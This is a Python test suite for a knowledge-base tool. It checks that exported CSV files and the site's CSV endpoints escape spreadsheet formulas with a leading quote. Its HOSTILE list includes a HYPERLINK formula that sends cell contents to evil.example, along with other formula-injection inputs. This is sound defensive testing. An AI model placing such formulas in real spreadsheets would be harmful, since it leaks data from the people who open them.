"""Every CSV kb writes — `kb export`, `kb log --csv`, the site's .csv — opened in a real
spreadsheet (LibreOffice Calc, headless) holds no formula: a cell that would run is written
with a single quote before it (kb.builder.csv_cells), which undoes exactly, and a number stays
a number."""

from __future__ import annotations

import asyncio
import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from spreadsheet import open_in_calc
from test_datasette import datasette_for

from kb.builder.build import build
from kb.builder.csv_cells import safe_cell
from kb.cli import cli, utc_now
from kb.events.append import Appender
from kb.publish.csv_responses import _Records

# Texts a spreadsheet would run (=, +, -, @, a tab first), one that begins with the quote
# itself, and a formula after a line feed, which is text.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    "'quoted",
    "-",
    "Akazawa said:\n=1+1",
]


def hostile_kb(kb, small, clock) -> None:
    appender = Appender(kb, clock, new=True)  # the hostile statements are alike on purpose
    [source] = appender.append(
        [{"type": "source", "kind": "article", "publisher": "Wire", "title": "No text held", "published_at": "2025"}]
    )
    citation = [{"source": source.stem, "excerpt": "Akazawa told reporters"}]
    appender.append([{"type": "entity", "key": "someone", "kind": "person", "name": HOSTILE[0]}])  # kb log's summary
    for text in HOSTILE:
        appender.append(
            [
                {
                    "type": "statement",
                    "negotiation": "talks",
                    "occurred_at": "2025-04-16",
                    "speaker": "akazawa",
                    "attribution": "paraphrase",
                    "text": text,
                    "venue": "=1+1",
                    "citations": citation,
                }
            ]
        )
    appender.append(
        [
            {
                "type": "data_point",
                "negotiation": "talks",
                "occurred_at": "2025-02",
                "metric": "trade_balance",
                "subject": "japan",
                "value": "-1.5",
                "unit": "JPY",
                "value_as_stated": "-1.5 yen",
                "citations": citation,
            }
        ]
    )


def undone(cell: str) -> str:
    """The cell's value, as docs/codebook.md says to undo the quote."""
    return cell.removeprefix("'")


def assert_safe(sheets, files):
    """No cell of any file is a formula in LibreOffice; every text comes back exactly."""
    for path in files:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        shown = sheets[path.name]
        assert not [cell for row in shown for cell in row if cell.formula], path.name
        column = rows[0].index("text")
        assert set(HOSTILE) <= {undone(row[column]) for row in rows[1:]}, path.name
        for number, row in enumerate(rows[1:], start=1):  # as Calc shows them, the quote undone
            assert undone(shown[number][column].text) == undone(row[column])


def test_kb_export_and_kb_log_csv_hold_no_formula(runner, kb, small, clock, tmp_path):
    hostile_kb(kb, small, clock)
    result = runner.invoke(cli, ["export", "--output-dir", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    log = tmp_path / "out" / "log.csv"
    log.write_text(runner.invoke(cli, ["log", "--csv"]).output, encoding="utf-8")
    files = [tmp_path / "out" / name for name in ("claims.csv", "statements.csv", "data_points.csv", "log.csv")]
    sheets = open_in_calc(files, tmp_path)
    assert_safe(sheets, files[:2])
    # A negative number is data: written as it is, a number in the spreadsheet.
    values = sheets["data_points.csv"]
    column = [cell.text for cell in values[0]].index("value")
    assert sorted((row[column].type, row[column].text) for row in values[1:3]) == [
        ("float", "-1.5"),
        ("float", "9000000000000"),
    ]
    assert not [cell for row in sheets["log.csv"] for cell in row if cell.formula]
    rows = list(csv.DictReader(io.StringIO(log.read_text(encoding="utf-8"))))
    assert f"{HOSTILE[0]} (person, someone)" in {undone(row["summary"]) for row in rows}
    assert not [row for row in rows if row["summary"].startswith(("=", "+", "-", "@"))]


def test_the_sites_csv_holds_no_formula(kb, small, clock, tmp_path):
    hostile_kb(kb, small, clock)
    ds = datasette_for(build(kb, now=utc_now).db)
    queries = {
        "table.csv": "/kb/statements.csv?_size=max",
        "stream.csv": "/kb/statements.csv?_stream=on&_size=2",  # page after page, in many chunks
        "download.csv": "/kb/statements.csv?_dl=1&_size=max",  # text/csv, as an attachment
        "query.csv": "/kb.csv?sql=select+text,+venue+from+statements",
    }
    files = []
    for name, url in queries.items():
        response = asyncio.run(ds.client.get(url))
        assert response.status_code == 200, response.text
        (tmp_path / name).write_bytes(response.content)
        files.append(tmp_path / name)
    assert_safe(open_in_calc(files, tmp_path), files)
    # The HTML and JSON pages are not touched.
    page = asyncio.run(ds.client.get("/kb/statements.json?_shape=array&_size=max")).json()
    assert set(HOSTILE) <= {row["text"] for row in page}


@settings(max_examples=max(200, settings().max_examples))
@given(
    rows=st.lists(
        st.lists(st.text(st.sampled_from(['"', ",", "\n", "\r", "=", "-", "'", "a", "1", "é", "\t"]), max_size=8)),
        max_size=6,
    ),
    cuts=st.lists(st.integers(0, 200), max_size=8),
)
def test_the_sites_csv_rewritten_in_any_chunks_is_the_csv_written_safe(rows, cuts):
    """However Datasette's stream is cut into chunks (even inside a character or a quoted
    line feed), the records come out whole, each cell as safe_cell writes it."""
    written, expected = io.StringIO(), io.StringIO()
    for row in rows:
        if row == []:
            continue
        csv.writer(written).writerow(row)
        csv.writer(expected).writerow([safe_cell(cell) for cell in row])
    data = written.getvalue().encode("utf-8")
    records = _Records()
    out = b""
    previous = 0
    for cut in sorted({min(cut, len(data)) for cut in cuts}):
        out += records.feed(data[previous:cut], final=False)
        previous = cut
    out += records.feed(data[previous:], final=True)
    assert out.decode("utf-8") == expected.getvalue()


def test_a_cell_kb_holds_is_given_back_by_removing_one_quote():
    for value in [*HOSTILE, "plain", "'", "''", "-5", "-1.5", "-2e3", "+5", "", "=", "@"]:
        assert undone(safe_cell(value)) == value
        assert not safe_cell(value).startswith(("=", "+", "@", "\t", "\r"))
    assert safe_cell("-5") == "-5" and safe_cell(-5) == -5 and safe_cell("-5 apples") == "'-5 apples"
    assert safe_cell(None) is None
